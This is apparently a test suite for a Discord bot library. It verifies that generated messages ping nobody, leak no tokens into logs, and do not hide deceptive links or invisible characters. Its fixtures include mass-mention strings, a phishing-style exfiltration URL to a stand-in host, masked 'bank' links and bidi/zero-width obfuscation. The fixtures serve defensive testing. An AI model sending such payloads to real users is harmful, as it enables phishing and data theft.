"""Nobody is pinged, nothing secret is told, and every refusal has a name."""

from __future__ import annotations

import logging
import random
from collections.abc import Awaitable, Callable
from typing import Any

import hikari
import pytest

from minamo.core.chunks import Call, ErrorChunk, FunctionCall
from minamo.core.config import StreamConfig
from minamo.core.messages import SUPPRESS_EMBEDS, AllowedMentions, Embed
from minamo.core.messages import OutgoingMessage as Message
from minamo.core.result import StreamResult
from minamo.shell.delivery.interfaces import Accepted
from minamo.shell.delivery.overflow import Overflow
from minamo.shell.discord.bot import BotSender
from minamo.shell.notices.notices import NoticeSettings
from minamo.shell.notices.thoughts import ThoughtDisplay
from minamo.shell.options import Persona, StreamContext
from minamo.shell.providers.scripted import ScriptedProvider
from minamo.shell.turns.tool_job import ToolContext
from minamo.shell.turns.tools import Tools
from minamo.twin import CALLBACK, CREATE, EDIT, EXECUTE, Permission, Rules, Twin
from minamo.wire.conversation import user
from support.bot import Rig, on_command, rigged
from support.lanes import SendOptions, persona, posting, reasons, unpaced
from support.overseer import hidden, wrongs
from support.seeds import FIRST, dice, seeds

pytestmark = pytest.mark.anyio


def hostile(seed: int, twin: Twin) -> str:
    """Mentions of all kinds, in long runs and odd company."""
    random_ = random.Random(seed)
    ann, role = twin.user("ann").id, twin.guild.id
    bits = ["@everyone", "@here", f"<@{ann}>", f"<@!{ann}>", f"<@&{role}>", f"<#{ann}>", "\\", "`"]
    bits += ["@", "<@", "\u200b", "```", "> ", "|", "* ", "\n", "everyone", "@ everyone", "a"]
    made = "".join(random_.choice(bits) * random_.choice((1, 1, 1, 7)) for _ in range(12))
    return f"x{made[:1_900]}"


async def ring_nobody(numbers: range) -> None:
    texts = len(numbers)
    async with Twin(rules=Rules(rate_limits=False)) as twin:
        twin.allow("general", Permission.MENTION_EVERYONE)
        async with posting(twin, pacer=unpaced()) as post, persona(post) as sender:
            sent = [hostile(seed, twin) for seed in numbers]
            half = len(sent) // 2
            receipts = await post.send(*sent[:half])
            receipts += await post.send(*sent[half:], sender=sender)
            assert [one.delivered for one in receipts] == [True] * texts
            place, bot = twin.channel().id, post.sender()
            for receipt, text in zip(receipts[:half:10], sent[half:], strict=False):
                assert receipt.message_id is not None
                changed = Message(channel_id=place, text=text)
                assert await bot.edit(changed, receipt.message_id) == Accepted(receipt.message_id)
        assert twin.journal.count(CREATE) + twin.journal.count(EXECUTE) == texts
        assert len(twin.messages()) == texts
        for name in (CREATE, EXECUTE, EDIT):
            bodies = [one.body for one in twin.journal.requests(name)]
            assert bodies
            for body in bodies:
                assert body["allowed_mentions"]["parse"] == []
                assert not body["allowed_mentions"].get("users")
                assert not body["allowed_mentions"].get("roles")
                assert len(body["content"]) <= 2000
        for message in twin.messages():
            assert (message.pinged, message.pinged_roles, message.pinged_everyone) == (
                [],
                [],
                False,
            )


async def test_p20_hostile_text_rings_nobody() -> None:
    with dice(FIRST):
        await ring_nobody(seeds(500))


@pytest.mark.slow
@pytest.mark.timeout(300)
@pytest.mark.parametrize("part", range(5))
async def test_p20_10_000_hostile_texts_ring_nobody(
    part: int, figure: Callable[[str], None]
) -> None:
    numbers = seeds(2_000, part)
    with dice(numbers.start):
        await ring_nobody(numbers)
    figure("P20: 2,000 hostile texts")


async def test_p20_who_is_named_is_rung_and_nobody_else() -> None:
    async with Twin() as twin, posting(twin) as post:
        ann, bob = twin.user("ann"), twin.user("bob")
        manner = SendOptions(ping=AllowedMentions(users=(ann.id,)))
        await post.send(f"<@{ann.id}> <@{bob.id}> @everyone", options=manner)
        assert twin.messages()[-1].pinged == [ann.id]
        asked = await twin.say("hm?", user="bob")
        await post.send("so", options=SendOptions(reply_to=asked.id))
        assert (twin.messages()[-1].reply_to, twin.messages()[-1].pinged) == (asked.id, [])
        await post.send(
            "so", options=SendOptions(reply_to=asked.id, ping=AllowedMentions(reply=True))
        )
        assert twin.messages()[-1].pinged == [bob.id]
        assert twin.journal.requests(CREATE)[-1].body["allowed_mentions"]["replied_user"] is True


async def test_a_reply_to_a_deleted_message_is_sent_all_the_same() -> None:
    async with Twin() as twin, posting(twin) as post:
        asked = await twin.say("hm?")
        await twin.delete(asked)
        (receipt,) = await post.send("so", options=SendOptions(reply_to=asked.id))
        assert receipt.delivered


async def test_flags_and_embeds_go_with_the_message() -> None:
    async with Twin() as twin, posting(twin) as post:
        notice = Embed(title="Trouble", description="It did not work.", colour=0xFF0000)
        await post.send("", options=SendOptions(embed=notice))
        await post.send("https://example.invalid", options=SendOptions(flags=SUPPRESS_EMBEDS))
        with_embed, without = twin.messages()
        assert (with_embed.content, with_embed.embeds[0]["title"]) == ("", "Trouble")
        assert without.flags & SUPPRESS_EMBEDS


@pytest.mark.rule_breaking("a text that no fitting would let through")
async def test_a_text_that_is_too_long_is_refused() -> None:
    async with Twin() as twin, posting(twin) as post:
        assert reasons(await post.send("x" * 2_001)) == [("refused", "bad_form")]
        assert (await post.send("x" * 2_000))[0].delivered


async def test_a_dead_or_badly_named_persona_is_refused_by_name() -> None:
    async with Twin() as twin, posting(twin) as post:
        async with persona(post, name="clyde") as sender:
            assert reasons(await post.send("hi", sender=sender)) == [("refused", "bad_form")]
        async with persona(post, name="Ada", avatar_url="https://example.invalid/a.png") as sender:
            assert (await post.send("hi", sender=sender))[0].delivered
            assert twin.messages()[-1].webhook_id == sender.place
            sender._token = "wrong"
            assert reasons(await post.send("hi", sender=sender)) == [("refused", "bad_token")]
            await post.rest.delete_webhook(sender.place)
            told = reasons(await post.send("hi", sender=sender))
            assert told == [("refused", "unknown_webhook")]


async def test_p21_no_secret_is_told(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    async with (
        Twin() as twin,
        posting(twin, max_retries=0) as post,
        persona(post, name="Ada") as sender,
    ):
        secrets = [twin.token, sender._token, f"/webhooks/{sender.place}/{sender._token[:4]}"]
        shown: list[object] = [sender, sender.bot, sender.calls, post.lanes]
        twin.faults.drop(on=EXECUTE)
        shown += await post.send("hi", sender=sender)
        twin.faults.status(502, on=EXECUTE)
        shown += await post.send("hi", sender=sender)
        await post.rest.delete_webhook(sender.place)
        shown += await post.send("hi", sender=sender)
        twin.faults.html(on=CREATE)
        one = post.open(["hi"])
        await twin.journal.until(lambda: twin.journal.count(CREATE, status=429))
        one.withdraw("stop")
        shown += await one.finish()
    # All loggers, hikari's too: it is our client that speaks here.
    ours = [r.getMessage() + str(r.__dict__) for r in caplog.records]
    told = [repr(one) for one in shown] + [str(one) for one in shown] + ours
    assert not [text for text in told if any(secret in text for secret in secrets)]
    assert len(shown) >= 8
    assert any("/***" in text for text in ours)


async def test_an_odd_text_is_not_an_exception(caplog: pytest.LogCaptureFixture) -> None:
    async with Twin() as twin, posting(twin) as post:
        sender = post.sender()
        answer = await sender.create(Message(channel_id=sender.place, text="\ud800", nonce="n"))
        assert answer.__class__.__name__ in ("Lost", "Took", "Rejected")
        assert "\ud800" not in caplog.text


FILL = "PATCH /webhooks/{webhook}/{token}/messages/@original"
CHANGE = "PATCH /webhooks/{webhook}/{token}/messages/{message}"

HOSTILE = {
    "address": "see https://evil.example/exfil?d=SECRET now",
    "masked": "see [your bank](https://evil.example/?q=SECRET) and [x](<https://evil.example>)",
    "split": "see [your bank](ht\u200btps://evil.example/?q=SECRET) \u2060[a]\u2060(https://e.example)",
    "invisible": "hid\u202eden\u2069 \U000e0041\U000e0042 a\u00adb\ufeffc \u2066x",
    "everybody": "@everyone @here <@{ann}> <@&{guild}> https://evil.example",
}
SHORT = StreamConfig(degree=0, max_message_length=100)
PAGES = StreamConfig(degree=1, max_message_length=200)

Way = Callable[[Rig, str], Awaitable[Any]]


def long(text: str) -> str:
    """So much of it that it takes several messages."""
    return "\n\n".join([f"{number}. {text}" for number in range(6)])


async def _streams(rig: Rig, text: str, person: Any = "ann", **how: Any) -> StreamResult:
    asked = await rig.twin.say("go on", user=person)
    message = await rig.bot.rest.fetch_message(asked.channel_id, asked.id)
    return await rig.client.stream(message, ScriptedProvider([text, " end"]), config=SHORT, **how)


def streamed(**how: Any) -> Way:
    async def way(rig: Rig, text: str) -> Any:
        return await _streams(rig, long(text), **how)

    return way


def grown(**how: Any) -> Way:
    async def way(rig: Rig, text: str) -> Any:
        place = rig.twin.channel().id
        bits = [(0.02, f"{part}\n\n") for part in long(text).split("\n\n")]
        return await rig.client.stream(
            place, ScriptedProvider(bits), config=PAGES, edit=True, **how
        )

    return way


def commanded(before: Callable[..., Awaitable[Any]] | None = None, **how: Any) -> Way:
    async def way(rig: Rig, text: str) -> Any:
        async def answer(one: hikari.CommandInteraction) -> Any:
            if before is not None:
                await before(one)
            bits = [(0.02, f"{part}\n\n") for part in long(text).split("\n\n")]
            config = PAGES if how.get("edit") else SHORT
            return await rig.client.stream(one, ScriptedProvider(bits), config=config, **how)

        return await _used(rig, answer)

    return way


async def _used(rig: Rig, answer: Callable[[hikari.CommandInteraction], Awaitable[Any]]) -> Any:
    before, end = len(rig.results), on_command(rig, answer)
    await rig.twin.slash("ask")
    await rig.until(lambda: len(rig.results) > before)
    end()
    return rig.results[-1]


def thinking(place: str, *, command: bool = False) -> Way:
    async def way(rig: Rig, text: str) -> Any:
        log = rig.twin.channel("log").id
        where = ThoughtDisplay("log", channel_id=log) if place == "log" else ThoughtDisplay(place)  # type: ignore[arg-type]
        said = ScriptedProvider([f"<think>{long(text)}</think>The answer."])
        if not command:
            return await rig.client.stream(rig.twin.channel().id, said, thoughts=where)
        return await _used(
            rig, lambda one: rig.client.stream(one, said, thoughts=where, ephemeral=True)
        )

    return way


async def by_tool(rig: Rig, text: str) -> Any:
    tools = Tools()

    @tools.add
    async def look(ctx: ToolContext) -> str:
        """Look."""
        ctx.progress(text)
        return text

    def model(messages: Any, _: Any) -> Any:
        if messages[-1].role == "tool":
            return ScriptedProvider([f"It says: {text}"])
        return ScriptedProvider([text, FunctionCall((Call("look"),))])

    return await rig.client.turn(rig.twin.channel().id, model, [user("look")], tools=tools)


async def by_notice(rig: Rig, text: str) -> Any:
    # Not an address: those are never quoted.
    quoted = text.replace("https://", "").replace("evil.example", "evil")[:60]
    return await rig.client.stream(
        rig.twin.channel().id, ScriptedProvider([ErrorChunk("api_error", quoted)])
    )


async def by_hand(rig: Rig, text: str) -> Any:
    """The full form, with nothing said of how it is to be sent."""
    orchestrator, place = await rig.client.orchestrator(), rig.twin.channel().id
    context = StreamContext(
        orchestrator=orchestrator, channel_id=place, sender=BotSender(rig.bot.rest, place)
    )
    return await orchestrator.stream_to_discord(ScriptedProvider([text]), SHORT, context)


async def by_a_named_persona(rig: Rig, text: str) -> Any:
    """A command that a persona answers, for a person with an odd name."""
    name = f"Mira {text}"[:80].strip()
    return await _used(
        rig, lambda one: rig.client.stream(one, ScriptedProvider(["Hello."]), persona=Persona(name))
    )


async def by_an_odd_name(rig: Rig, text: str) -> Any:
    """A reply of a persona to somebody whose name is the trap."""
    person = rig.twin.user("ann")
    person.name = text[:32]
    return await _streams(rig, "Hello.", person, persona=Persona("Mira"), reply=True)


def deferred(flags: int) -> Callable[[hikari.CommandInteraction], Awaitable[Any]]:
    async def defer(one: hikari.CommandInteraction) -> None:
        kind = hikari.ResponseType.DEFERRED_MESSAGE_CREATE
        await one.create_initial_response(kind, flags=flags)

    return defer


async def said_something(one: hikari.CommandInteraction) -> None:
    """The bot's author answers by himself first."""
    kind = hikari.ResponseType.MESSAGE_CREATE
    nobody = {"mentions_everyone": False, "user_mentions": False, "role_mentions": False}
    await one.create_initial_response(kind, "Wait.", flags=4, **nobody)  # type: ignore[arg-type]


# The way, the calls that it must have made, and how many messages at least.
WAYS: dict[str, tuple[Way, set[str]]] = {
    "messages": (streamed(), {CREATE}),
    "a reply": (streamed(reply=True), {CREATE}),
    "with a button": (grown(button=True), {CREATE, EDIT}),
    "growing": (grown(), {CREATE, EDIT}),
    "growing, then fresh": (grown(fresh=True), {CREATE, EDIT}),
    "a file": (streamed(overflow=Overflow(1, "file")), {CREATE}),
    "a thread": (streamed(overflow=Overflow(1, "thread")), {CREATE}),
    "a persona": (streamed(persona=Persona("Mira"), reply=True), {EXECUTE}),
    "a persona that grows": (grown(persona=Persona("Mira")), {EXECUTE, CHANGE}),
    "a command": (commanded(), {FILL, EXECUTE}),
    "a command that grows": (commanded(edit=True), {FILL, CHANGE}),
    "a command that grows, then fresh": (commanded(edit=True, fresh=True), {FILL, CHANGE}),
    "a private command": (commanded(ephemeral=True), {FILL, EXECUTE}),
    "a command with a button": (commanded(button=True), {FILL, EXECUTE, CHANGE}),
    "a command deferred by hand": (commanded(deferred(0)), {FILL, EXECUTE}),
    "a command privately deferred": (commanded(deferred(64)), {FILL, EXECUTE}),
    "a command answered by hand": (commanded(said_something), {EXECUTE}),
    "thoughts in a spoiler": (thinking("spoiler"), {CREATE}),
    "thoughts in a thread": (thinking("thread"), {CREATE}),
    "thoughts in a log": (thinking("log"), {CREATE}),
    "thoughts of a command": (thinking("spoiler", command=True), {FILL, EXECUTE}),
    "tools": (by_tool, {CREATE}),
    "a notice": (by_notice, {CREATE}),
    "the full form": (by_hand, {CREATE}),
    "a persona that answers a command": (by_a_named_persona, {CALLBACK, EXECUTE}),
    "a notice above a reply": (by_an_odd_name, {EXECUTE}),
}


async def run(way: Way, *texts: str) -> Twin:
    rules = Rules(rate_limits=False)
    notices = NoticeSettings(quote_provider=True)
    async with Twin(rules=rules) as twin:
        twin.allow("general", Permission.MENTION_EVERYONE)
        async with rigged(twin, None, pacer=unpaced(), notices=notices) as rig:
            for text in texts:
                await way(rig, text.format(ann=twin.user("ann").id, guild=twin.guild.id))
    return twin


@pytest.mark.parametrize("way", WAYS)
async def test_p20_p25_nothing_is_hidden_and_nobody_pinged(way: str) -> None:
    how, calls = WAYS[way]
    twin = await run(how, *HOSTILE.values())
    assert calls <= {one.name for one in twin.journal.requests()}
    assert not wrongs(twin)
    assert not hidden(twin)


@pytest.mark.parametrize(
    "way",
    [
        streamed(link_previews=True),
        grown(link_previews=True),
        streamed(link_previews=True, persona=Persona("Mira"), reply=False),
        commanded(link_previews=True),
    ],
    ids=["messages", "growing", "a persona", "a command"],
)
async def test_previews_can_be_asked_for(way: Way) -> None:
    twin = await run(way, HOSTILE["address"])
    assert not hidden(twin, previews=True)
    written = [one for one in twin.messages() if one.author.is_bot]
    assert written
    assert not [one for one in written if one.flags & hikari.MessageFlag.SUPPRESS_EMBEDS]
